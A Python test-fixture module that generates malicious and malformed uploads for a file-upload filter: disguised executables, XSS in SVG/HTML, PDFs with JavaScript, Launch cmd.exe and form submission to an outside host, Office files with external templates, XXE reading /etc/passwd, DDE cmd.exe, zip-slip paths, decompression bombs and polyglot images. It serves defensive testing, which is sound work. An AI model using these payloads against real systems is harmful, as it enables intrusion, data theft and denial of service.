"""Files somebody might send to do harm, or by mistake: name, bytes.  None may be kept as it was sent."""

from __future__ import annotations

import struct
import zipfile
import zlib
from collections.abc import Iterator
from io import BytesIO

from PIL import Image

from tests.survey.proof_files import docx, odt, pdf, picture, xlsx, zipped

SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
HTML = b"<!doctype html><script>alert(document.cookie)</script>"
EXE = b"MZ\x90\0\x03" + bytes(200)
HEIC = b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(100)
CANARY = b"PAYLOAD-canary-<script>alert(1)</script>"


def changed(archive: bytes, **parts: bytes | str | None) -> bytes:
    """An archive with some parts replaced, added, or (None) taken out; names are given as part__name."""
    with zipfile.ZipFile(BytesIO(archive)) as opened:
        kept: dict[str, bytes | str] = {name: opened.read(name) for name in opened.namelist()}
    for name, data in parts.items():
        if data is None:
            kept.pop(name, None)
        else:
            kept[name] = data
    return zipped(kept)


def retyped(archive: bytes, old: bytes, new: bytes) -> bytes:
    """An archive whose list of contents says something else."""
    with zipfile.ZipFile(BytesIO(archive)) as opened:
        listed = opened.read("[Content_Types].xml")
    return changed(archive, **{"[Content_Types].xml": listed.replace(old, new)})


def png_of(width: int, height: int, data: bytes = b"") -> bytes:
    """A PNG that claims this size and holds this much."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def noisy_jpeg() -> bytes:
    """A picture whose data fill it to the end, so that half of them is not enough."""
    out = BytesIO()
    Image.effect_noise((400, 300), 90).convert("RGB").save(out, "JPEG", quality=90)
    return out.getvalue()


def renamed() -> Iterator[tuple[str, bytes]]:
    """What only its name makes a file of ours."""
    contents = {
        "exe": EXE,
        "svg": SVG,
        "html": HTML,
        "heic": HEIC,
        "text": b"a,b\n1,2\n",
        "gif": b"GIF89a" + EXE,
    }
    for what, data in contents.items():
        for ending in ("jpg", "pdf", "docx"):
            yield f"{what}.{ending}", data
    yield "bien-ban.pdf.jpg", pdf()
    yield "anh.pdf", picture()
    yield "anh.docx", picture("PNG")
    yield "thu.pdf", docx()
    yield "thu.jpg", docx()
    yield "so.docx", xlsx()
    yield "thu.xlsx", odt()
    yield "kho.docx", zipped({"a.txt": "x"})
    yield (
        "vo.odt",
        zipped({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": "<a/>"}),
    )


def unwanted() -> Iterator[tuple[str, bytes]]:
    """Kinds we do not take under their own names."""
    yield from {
        "trang.html": HTML, "hinh.svg": SVG, "chay.exe": EXE, "hinh.gif": picture("GIF"), "anh.heic": HEIC,
        "hinh.tiff": picture("TIFF"), "hinh.bmp": picture("BMP"), "thu.doc": b"\xd0\xcf\x11\xe0" + bytes(600),
        "thu.docm": docx(), "kho.zip": zipped({"a": "b"}), "khong-duoi": picture(), ".htaccess": b"x",
        "anh.jpg.php": picture(), "anh.jpg ": HTML, "..%2f..%2fetc%2fpasswd": b"root",
    }.items()  # fmt: skip


def broken() -> Iterator[tuple[str, bytes]]:
    """Cut short, empty, or far larger than they look."""
    noisy = noisy_jpeg()
    yield "nua.jpg", noisy[: len(noisy) // 2]
    yield "dau.jpg", b"\xff\xd8\xff\xe0" + bytes(50)
    yield "nua.png", picture("PNG", (400, 300))[:120]
    yield "nua.webp", picture("WEBP", (400, 300))[:60]
    yield "rong.pdf", b""
    yield "nua.pdf", pdf()[:150]
    yield "nua.xlsx", xlsx()[:-300]
    yield "bom.png", png_of(30_000, 30_000, zlib.compress(bytes(2_000_000)))
    yield "bom-day.png", png_of(60_000, 60_000)
    yield "bom-cao.png", png_of(1, 4_000_000_000)
    yield "bom-giai-nen.png", png_of(3_900, 3_900, zlib.compress(bytes(40_000_000)) + b"x" * 40)
    yield "bom.docx", changed(docx(), **{"word/media/a.xml": bytes(40_000_000)})
    yield "bom2.xlsx", changed(xlsx(), **{f"xl/media/{n}.png": bytes(40_000_000) for n in range(4)})
    yield "day.xlsx", changed(xlsx(), **{f"xl/media/{n}.png": b"" for n in range(2_100)})


def active_pdf() -> Iterator[tuple[str, bytes]]:
    """Pages that act, send, hide or carry something."""
    hidden = zlib.compress(b"<< /S /JavaScript /JS (app.alert(1)) >>")
    stream = b"9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(
        hidden
    )
    odd = b"9 0 obj\n<< /Type /ObjStm /Filter /ASCII85Decode >>\nstream\nabc~>\nendstream\nendobj\n"
    launch = b"/OpenAction << /S /Launch /F (cmd.exe) >>"
    yield "js.pdf", pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")
    yield "js-escaped.pdf", pdf(b"/OpenAction << /S /J#61vaScript /J#53 (x) >>")
    yield "js-packed.pdf", pdf(objects=stream + hidden + b"\nendstream\nendobj\n")
    yield "packed-oddly.pdf", pdf(objects=odd)
    yield "launch.pdf", pdf(launch)
    yield "attached.pdf", pdf(b"/Names << /EmbeddedFiles << >> >>")
    yield "sends.pdf", pdf(b"/AA << /O << /S /SubmitForm /F (https://x.example) >> >>")
    yield "locked.pdf", pdf(b"/Encrypt 5 0 R")
    yield "xfa.pdf", pdf(b"/AcroForm << /XFA 4 0 R >>")
    yield "html-inside.pdf", pdf(objects=b"%<script>alert(1)</script>\n")
    yield "zip-behind.pdf", pdf(after=zipped({"a.exe": EXE}) + b"\n%%EOF")


def active_office() -> Iterator[tuple[str, bytes]]:
    """Letters and sheets that act, fetch, hide or carry something."""
    yield "macro.docx", changed(docx(), **{"word/vbaProject.bin": EXE})
    main = b"wordprocessingml.document.main+xml"
    yield (
        "macro-type.docx",
        retyped(docx(), b"openxmlformats-officedocument." + main, b"ms-word.macroEnabled"),
    )
    external = (
        '<Relationships><Relationship Id="r" TargetMode="External" Target="https://x.example/t.dotm" Type="'
    )
    kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    for name, kind in {"template": "attachedTemplate", "ole": "oleObject", "frame": "frame"}.items():
        rels = f'{external}{kinds}{kind}"/></Relationships>'
        yield f"{name}.docx", changed(docx(), **{"word/_rels/settings.xml.rels": rels})
    yield (
        "xxe.docx",
        changed(
            docx(), **{"word/document.xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a/>'}
        ),
    )
    yield "laughs.xlsx", changed(xlsx(), **{"xl/workbook.xml": '<!DOCTYPE a [<!ENTITY b "bbb">]><a/>'})
    yield "utf16.docx", changed(docx(), **{"word/document.xml": "<!DOCTYPE a><a/>".encode("utf-16")})
    yield "embedded.docx", changed(docx(), **{"word/embeddings/oleObject1.bin": EXE})
    yield "activex.docx", changed(docx(), **{"word/activeX/activeX1.xml": "<a/>"})
    yield "script.docx", changed(docx(), **{"word/a.js": "alert(1)"})
    yield "page.docx", changed(docx(), **{"word/afchunk.html": HTML})
    yield "dde.docx", changed(docx(), **{"word/footer9.xml": "<a>DDEAUTO c:\\\\windows\\\\cmd.exe</a>"})
    yield "slip.docx", changed(docx(), **{"../../evil.xml": "<a/>"})
    yield "outside.xlsx", changed(xlsx(), **{"xl/externalLinks/externalLink1.xml": "<a/>"})
    yield "basic.odt", odt(**{"Basic/Standard/script.xml": "<a/>"})
    yield "event.odt", odt(**{"styles.xml": "<office:event-listeners/>"})
    yield "object.odt", odt(**{"Object 1/content.xml": "<a/>"})
    yield "before.docx", HTML + docx()
    yield "behind.docx", docx() + HTML
    yield "comment.odt", zipped_with_comment()


def zipped_with_comment() -> bytes:
    """An archive that goes on talking behind its end."""
    out = BytesIO(odt())
    with zipfile.ZipFile(out, "a") as archive:
        archive.comment = HTML
    return out.getvalue()


def two_faced() -> Iterator[tuple[str, bytes]]:
    """Pictures that are something else as well: they may be taken, but only drawn anew."""
    jpeg, png = picture(), picture("PNG")
    yield "zip-behind.jpg", jpeg + zipped({"a.html": CANARY})
    yield "script-behind.jpg", jpeg + CANARY
    yield "script-comment.jpg", picture(comment=CANARY)
    yield "script-exif.jpg", picture(exif=b"Exif\0\0II*\0\x08\0\0\0\0\0" + CANARY)
    yield "script-icc.jpg", picture(icc_profile=CANARY * 10)
    yield "script-behind.png", png + CANARY
    yield "pdf-behind.png", png + pdf(CANARY)
    yield "script-behind.webp", picture("WEBP") + CANARY
    yield "script-xmp.webp", picture("WEBP", xmp=CANARY)
    yield "ao.png", picture("JPEG", comment=CANARY)  # a picture under another picture's name


REFUSED = [*renamed(), *unwanted(), *broken(), *active_pdf(), *active_office()]
REDRAWN = list(two_faced())
